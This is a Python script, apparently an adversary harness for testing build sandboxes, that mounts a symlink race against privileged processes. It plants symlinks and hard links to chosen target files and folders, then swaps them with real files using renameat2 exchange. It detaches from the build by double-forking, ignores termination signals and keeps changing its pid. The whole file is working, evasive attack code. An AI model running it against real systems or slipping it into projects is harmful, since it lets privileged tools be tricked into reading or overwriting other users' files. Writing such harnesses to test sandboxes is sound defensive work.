"""
What a hostile project starts while it is built: processes that get away from the build, and swap files for links as fast as the kernel
can, so that whoever walks the folder with more rights is led to another's file.

Each shows in its own name (`x`, the lane, how often it has swapped) how far it has come: root reads that whatever sandbox it is in.
They end by themselves after some seconds. Arguments: SECONDS, TARGETS (JSON: {"files": [], "folders": []}), FOLDER ...
"""

import ctypes
import json
import os
import signal
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
RENAME_EXCHANGE = 2
PR_SET_NAME = 15


def exchange(first, second):
    return libc.renameat2(AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE) == 0


def show(lane, count):
    libc.prctl(PR_SET_NAME, b"x%d:%d" % (lane, count), 0, 0, 0)


def attempt(act):
    try:
        act()
    except OSError:
        pass


def write(path, content):
    with open(path, "w") as file:
        file.write(content)


def lay(folder, targets):
    """Pairs of a thing and a link beside it, in the folder itself and in new ones of its own."""
    pairs = []
    css = "b { color: blue }\n" * 400
    for index in range(4):
        inside = os.path.join(folder, "w%d" % index)
        attempt(lambda: os.mkdir(inside))
        for place in (folder, inside):
            for number, target in enumerate(targets["files"]):
                plain, link = (os.path.join(place, "%s%d-%d.css" % (word, index, number)) for word in ("a", "b"))
                attempt(lambda: write(plain, css))
                attempt(lambda: os.symlink(target, link))
                # Where the kernel lets a user link what is not theirs.
                attempt(lambda: os.link(target, plain + ".hard"))
                pairs.append((plain.encode(), link.encode()))
            for number, target in enumerate(targets["folders"]):
                plain, link = (os.path.join(place, "%s%d-%d" % (word, index, number)) for word in ("c", "d"))
                attempt(lambda: os.mkdir(plain))
                for name in ("big.css", "big.js", "secret.txt"):
                    attempt(lambda: write(os.path.join(plain, name), css))
                attempt(lambda: os.symlink(target, link))
                pairs.append((plain.encode(), link.encode()))
    # The folder itself, where its parent lets us.
    for number, target in enumerate(targets["folders"]):
        link = "%s-%d" % (folder, number)
        attempt(lambda: os.symlink(target, link))
        pairs.append((folder.encode(), link.encode()))
    return pairs


def hammer(lane, lanes, pairs, until):
    """Swaps for ever. Every so often it goes on in a child of its own, so that its pid is never known for long."""
    for name in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGCONT):
        signal.signal(name, signal.SIG_IGN)
    mine = pairs[lane::lanes] or pairs
    count = 0
    rounds = 0
    show(lane, count)
    while time.monotonic() < until:
        for pair in mine:
            count += exchange(*pair)
        rounds += 1
        if rounds % 256 == 0:
            show(lane, count)
        if rounds % 4096 == 0:
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                pass
    os._exit(0)


def escape(work):
    """Runs it in a process that is nobody's child, in a session of its own, with nothing open of ours."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    empty = os.open(os.devnull, os.O_RDWR)
    for descriptor in range(3):
        os.dup2(empty, descriptor)
    os.closerange(3, 64)
    attempt(lambda: os.chdir("/"))
    try:
        work()
    finally:
        os._exit(0)


def main(seconds, targets, folders, lanes=2):
    until = time.monotonic() + seconds
    pairs = [pair for folder in folders for pair in lay(folder, targets)]
    for lane in range(lanes):
        escape(lambda: hammer(lane, lanes, pairs, until))


if __name__ == "__main__":
    main(float(sys.argv[1]), json.loads(sys.argv[2]), sys.argv[3:])
